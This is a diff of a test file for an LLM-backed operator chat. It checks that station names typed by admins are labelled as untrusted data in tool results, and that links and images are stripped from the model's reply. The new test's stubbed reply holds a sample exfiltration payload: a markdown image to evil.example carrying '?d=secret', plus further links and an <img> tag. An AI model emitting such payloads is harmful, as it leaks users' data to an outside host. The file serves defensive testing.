@@ -84,10 +84,11 @@ describe('operator chat with the LLM (stub)', function () {
       callId: 'call_st',
       ok: true,
       id: 'st-a',
-      name: 'Harbour Road',
       version: live.version,
       queueWaiting: live.queue.waiting,
     });
+    // The name is free text an admin typed: labelled as untrusted data.
+    expect(station.untrusted).to.deep.equal({ name: 'Harbour Road' });
     expect(station.chargers.find((x: { id: string }) => x.id === 'C1')).to.include({
       status: live.chargers.C1.status,
       lastErrorCode: 'GroundFailure',
@@ -158,6 +159,33 @@ describe('operator chat with the LLM (stub)', function () {
     expect(tooMany.error.message).to.include('"limit" must be less than or equal to 20');
     expect(noStation).to.deep.include({ ok: false, error: { code: 'UNKNOWN_STATION', message: 'station st-nowhere is not registered' } });
     expect(extra.error.message).to.include('"extra" is not allowed');
+  });
+
+  it("labels people's free text in tool results as untrusted, and lets no link or image through to the operator", async () => {
+    script(stub, (_r, n) =>
+      n === 1
+        ? {
+            toolCalls: [
+              { id: 'n1', name: 'get_station', arguments: { stationId: 'st-a' } },
+              { id: 'n2', name: 'list_stations', arguments: {} },
+            ],
+          }
+        : {
+            content:
+              'Harbour Road [station:st-a] is fine. ![status](https://evil.example/pixel.png?d=secret) Read [the runbook](https://evil.example/x) or www.evil.example/y and <img src="https://evil.example/z">.',
+          },
+    );
+    const streamed = await chatOverSocket(c.ioUrl, { message: 'How is Harbour Road?' });
+    const [station, list] = toolResults(chatRequests()[1]!);
+    expect(station.untrusted).to.deep.equal({ name: 'Harbour Road' });
+    expect(station).to.not.have.property('name');
+    expect(list.items.find((i: { id: string }) => i.id === 'st-a').untrusted).to.deep.equal({ name: 'Harbour Road' });
+    const expected = 'Harbour Road [station:st-a] is fine. Read the runbook or (link removed) and.';
+    expect(streamed.done).to.deep.include({ reply: expected });
+    expect(streamed.done).to.not.equal(null);
+    for (const text of [streamed.deltas.join(''), streamed.done!.reply as string]) {
+      expect(text).to.not.match(/evil\.example|https?:|<img/);
+    }
   });
 
   it('streams the answer over /chat as several deltas, then chat:done with the whole reply', async () => {
